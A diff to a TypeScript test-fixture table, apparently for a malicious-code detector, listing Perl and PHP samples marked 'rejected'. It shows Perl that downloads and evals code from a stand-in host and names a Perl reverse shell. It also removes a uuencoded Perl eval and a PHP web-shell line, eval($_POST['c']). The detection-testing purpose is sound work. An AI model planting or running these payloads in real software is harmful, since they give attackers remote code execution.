@@ -83,12 +83,6 @@ export const OTHER_LANGUAGES: readonly Row[] = [
     { "run.pl": lines("use LWP::Simple;", "my $code = get('https://x.example/p.pl');", "eval $code;") },
   ],
   [
-    "Perl that evaluates unpacked code",
-    "rejected",
-    HIDDEN_RUN,
-    { "run.pl": lines("eval unpack 'u', q{_<WES=&5M*\"=C=7)L};") },
-  ],
-  [
     "a Perl reverse shell",
     "rejected",
     REVERSE,
@@ -102,7 +96,6 @@ export const OTHER_LANGUAGES: readonly Row[] = [
       ),
     },
   ],
-  ["PHP that evaluates a request", "rejected", REMOTE, { "index.php": lines("<?php", "eval($_POST['c']);") }],
   [
     "PHP that evaluates a download",
     "rejected",
